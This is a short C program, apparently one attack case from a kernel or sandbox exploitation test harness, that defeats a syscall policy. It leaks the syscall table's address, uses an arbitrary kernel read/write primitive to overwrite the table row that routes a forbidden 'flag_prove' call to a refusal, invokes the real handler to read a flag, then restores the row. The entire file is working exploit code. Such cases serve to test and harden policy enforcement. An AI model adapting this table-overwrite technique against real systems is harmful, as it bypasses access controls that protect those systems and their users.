/* The policy forbids this program one call: it overwrites the table that says so. */
#include "attack.h"

enum { ROW_BYTES = 8 };

int main(void)
{
	struct bw_leak leak;

	attack_leak(&leak);
	if (bw_flag_prove(0) != -EPERM) {
		attack_skip("no policy forbids it flag_prove");
	}

	uint64_t at = leak.syscall_table + BW_CALL_ROWS * ROW_BYTES + BW_NR_flag_prove;
	uint64_t row = (uint64_t)bw_vuln_read(at) & 0xff;
	uint64_t handler = (uint64_t)bw_vuln_read(leak.syscall_table_all + row * ROW_BYTES);
	uint64_t refusal = (uint64_t)bw_vuln_read(leak.syscall_table + row * ROW_BYTES);
	long status;

	attack_say("the policy leads flag_prove to a refusal, in its table at 0x%lx",
		   leak.syscall_table);
	attack_check("vuln_write", bw_vuln_write(leak.syscall_table + row * ROW_BYTES, handler));
	status = bw_flag_prove((uint64_t)bw_vuln_read(leak.flag));
	attack_say("now to 0x%lx: %s", handler, status == 0 ? "proved" : "refused");
	/* others are under that rule, too */
	bw_vuln_write(leak.syscall_table + row * ROW_BYTES, refusal);
	return attack_finish();
}
